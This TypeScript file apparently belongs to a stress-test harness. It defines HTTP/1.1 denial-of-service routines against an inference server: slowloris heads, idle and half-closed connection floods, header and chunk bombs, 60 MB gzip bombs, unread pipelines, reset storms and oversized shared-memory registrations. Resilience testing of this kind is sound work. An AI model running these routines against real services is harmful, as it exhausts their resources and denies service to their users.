/** HTTP/1.1: peers that are slow, silent, gone, or send what never ends. */
import zlib from 'node:zlib';
import { type Attack, hold, lanes, pause, write } from '../attack.js';
import { httpRequest, oneRequest } from '../raw-http1.js';

const INFER = '/v2/models/identity/infer';
const BODY = '{"inputs":[{"name":"INPUT0","datatype":"INT32","shape":[1,4],"data":[1,2,3,4]}]}';
const LIVE = httpRequest('/v2/health/live', '', {}, 'GET');

/** All of them. */
export const HTTP1_ATTACKS: readonly Attack[] = [
  {
    name: 'http-idle',
    about: '2,000 connections that send nothing, on both front ends',
    async run(target) {
      for (let i = 0; i < 1000 && target.going(); i++) {
        await Promise.all([target.connect(target.httpPort), target.connect(target.grpcPort)]);
        target.sent(2);
      }
      await hold(target);
    },
  },
  {
    name: 'http-half-closed',
    about: 'connections that are closed for writing at once, or after half a head, and stay',
    async run(target) {
      await lanes(target, 20, async (lane) => {
        for (const port of [target.httpPort, target.grpcPort]) {
          const socket = await target.connect(port, { allowHalfOpen: true } as never);
          socket.end(lane % 2 === 0 ? '' : 'POST /v2/models/identity/infer HTTP/1.1\r\nHos');
          target.sent();
        }
        await pause(5);
      });
    },
  },
  {
    name: 'http-announced',
    about: '1,000 requests that announce 60 MB each and send nothing of it',
    async run(target) {
      for (let i = 0; i < 1000 && target.going(); i++) {
        const socket = await target.connect(target.httpPort);
        await write(target, socket, `POST ${INFER} HTTP/1.1\r\nHost: x\r\nContent-Length: 60000000\r\n\r\n`);
        target.sent();
      }
      await hold(target);
    },
  },
  {
    name: 'http-slow-head',
    about: '500 heads and bodies, a byte at a time',
    async run(target) {
      await lanes(target, 500, async (lane) => {
        const socket = await target.connect(target.httpPort);
        const text =
          lane % 2 === 0 ? 'GET / HTTP/1.1\r\nX: ' : `POST ${INFER} HTTP/1.1\r\nHost: x\r\nContent-Length: 900\r\n\r\n`;
        await write(target, socket, text);
        target.sent();
        while (target.going() && !socket.destroyed) {
          socket.write('a');
          await pause(100);
        }
      });
    },
  },
  {
    name: 'http-head-bomb',
    about: 'heads that never end: one line, many lines',
    async run(target) {
      await lanes(target, 4, async (lane) => {
        const socket = await target.connect(target.httpPort);
        await write(target, socket, 'GET /v2/health/live HTTP/1.1\r\nHost: x\r\n');
        const part = Buffer.alloc(65536, lane % 2 === 0 ? 'a' : 'a: b\r\n');
        while (target.going() && !socket.destroyed && !socket.readableEnded) {
          await write(target, socket, part);
          target.sent();
          await pause(0);
        }
        socket.destroy();
      });
    },
  },
  {
    name: 'http-chunks',
    about: 'chunks of one byte with long extensions, and trailers without an end',
    async run(target) {
      await lanes(target, 4, async (lane) => {
        const socket = await target.connect(target.httpPort);
        await write(target, socket, `POST ${INFER} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n`);
        const unit = lane % 2 === 0 ? `1;${'e'.repeat(200)}\r\nx\r\n` : '1\r\nx\r\n';
        if (lane === 3) await write(target, socket, '0\r\n');
        const part = Buffer.alloc(unit.length * 400, lane === 3 ? 'a: b\r\n' : unit);
        while (target.going() && !socket.destroyed && !socket.readableEnded) {
          await write(target, socket, part);
          target.sent(400);
          await pause(0);
        }
        socket.destroy();
      });
    },
  },
  {
    name: 'http-gzip',
    about: 'twelve bombs of gzip at a time, 60 MB each when decompressed',
    async run(target) {
      const body = zlib.gzipSync(Buffer.alloc(60_000_000, ' '));
      const request = httpRequest(INFER, body, { 'Content-Encoding': 'gzip' });
      await lanes(target, 12, () => oneRequest(target, request));
    },
  },
  {
    name: 'http-pipeline',
    about: 'pipelined requests whose responses nobody reads',
    async run(target) {
      const request = Buffer.concat(Array.from({ length: 200 }, () => httpRequest('/v2/models/stats', '', {}, 'GET')));
      await lanes(target, 20, async () => {
        const socket = await target.connect(target.httpPort);
        socket.pause();
        while (target.going() && !socket.destroyed) {
          await write(target, socket, request);
          target.sent(200);
          await pause(0);
        }
      });
    },
  },
  {
    name: 'http-not-read',
    about: 'responses of 4 MB on 100 connections that are not read',
    async run(target) {
      const size = 4 * 2 ** 20;
      const head = Buffer.from(
        `{"inputs":[{"name":"INPUT0","datatype":"INT32","shape":[1,${size / 4}],"parameters":{"binary_data_size":${size}}}],"parameters":{"binary_data_output":true}}`,
      );
      const request = httpRequest('/v2/models/wide/infer', Buffer.concat([head, Buffer.alloc(size)]), {
        'Inference-Header-Content-Length': String(head.length),
      });
      await lanes(target, 100, async () => {
        const socket = await target.connect(target.httpPort);
        socket.pause();
        for (let i = 0; i < 10 && target.going() && !socket.destroyed; i++) {
          await write(target, socket, request);
          target.sent();
        }
        while (target.going() && !socket.destroyed) await pause(20);
      });
    },
  },
  {
    name: 'http-metrics',
    about: 'metrics pipelined on connections that are not read',
    async run(target) {
      const request = Buffer.concat(Array.from({ length: 100 }, () => httpRequest('/metrics', '', {}, 'GET')));
      await lanes(target, 10, async () => {
        const socket = await target.connect(target.metricsPort);
        socket.pause();
        while (target.going() && !socket.destroyed) {
          await write(target, socket, request);
          target.sent(100);
          await pause(0);
        }
      });
    },
  },
  {
    name: 'http-cancel',
    about: 'requests to a slow queue whose clients close or reset at once',
    async run(target) {
      const request = httpRequest('/v2/models/queued/infer', BODY);
      await lanes(target, 50, async (lane) => {
        const socket = await target.connect(target.httpPort);
        await write(target, socket, request);
        target.sent();
        if (lane % 2 === 0) socket.resetAndDestroy();
        else socket.destroySoon();
      });
    },
  },
  {
    name: 'http-connections',
    about: 'connections opened, used once and reset as fast as it goes',
    async run(target) {
      await lanes(target, 20, async () => {
        const socket = await target.connect(target.httpPort);
        await write(target, socket, LIVE);
        target.sent();
        socket.resetAndDestroy();
      });
    },
  },
  {
    name: 'http-names',
    about: 'models, versions and paths with names of 7 KB, which errors and the log might repeat',
    async run(target) {
      const name = 'n'.repeat(7000);
      const requests = [`/v2/models/${name}/infer`, `/v2/models/identity/versions/${name}/infer`, `/${name}`].map(
        (path) => Buffer.concat(Array.from({ length: 20 }, () => httpRequest(path, BODY))),
      );
      await lanes(target, 6, async (lane) => {
        await oneRequest(target, requests[lane % requests.length]!);
        target.sent(19);
      });
    },
  },
  {
    name: 'http-empty-batch',
    about: 'batches of no rows to a model that gathers batches',
    async run(target) {
      const body = '{"inputs":[{"name":"INPUT0","datatype":"INT32","shape":[0,4],"data":[]}]}';
      const request = Buffer.concat(Array.from({ length: 10 }, () => httpRequest('/v2/models/batched/infer', body)));
      await lanes(target, 4, async () => {
        await oneRequest(target, request);
        target.sent(9);
      });
    },
  },
  {
    name: 'http-regions',
    about: 'shared memory regions of ever new names',
    async run(target) {
      let count = 0;
      await lanes(target, 4, async () => {
        const requests = Array.from({ length: 50 }, () =>
          httpRequest(
            `/v2/systemsharedmemory/region/r${count++}/register`,
            `{"key":"/attack-${process.pid}-${count}","offset":0,"byte_size":1000000000000}`,
          ),
        );
        await oneRequest(target, Buffer.concat(requests));
        target.sent(49);
      });
    },
  },
];
